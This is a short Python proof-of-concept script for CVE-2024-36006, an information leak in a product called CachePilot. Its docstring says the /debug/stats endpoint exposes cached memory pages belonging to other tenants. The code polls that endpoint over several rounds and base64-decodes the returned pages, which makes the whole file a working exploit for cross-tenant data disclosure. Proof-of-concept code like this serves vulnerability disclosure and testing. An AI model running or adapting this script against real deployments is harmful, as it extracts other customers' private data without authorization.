"""PoC for CVE-2024-36006: CachePilot debug stats expose cache pages.

The /debug/stats endpoint streams a base64-encoded payload containing
recent cache pages, which dumps memory belonging to other tenants.
The endpoint samples whatever pages are hot, so the success rate of
catching another tenant's data varies with cache churn.
"""

import argparse
import base64

import requests


def main() -> None:
    parser = argparse.ArgumentParser(description="CachePilot page sampler")
    parser.add_argument("--url", required=True, help="CachePilot base address")
    parser.add_argument("--rounds", type=int, default=10)
    args = parser.parse_args()

    for n in range(args.rounds):
        resp = requests.get(f"{args.url}/debug/stats", timeout=5)
        blob = resp.json().get("pages", "")
        data = base64.b64decode(blob)
        print(f"round {n}: {len(data)} bytes sampled")


if __name__ == "__main__":
    main()
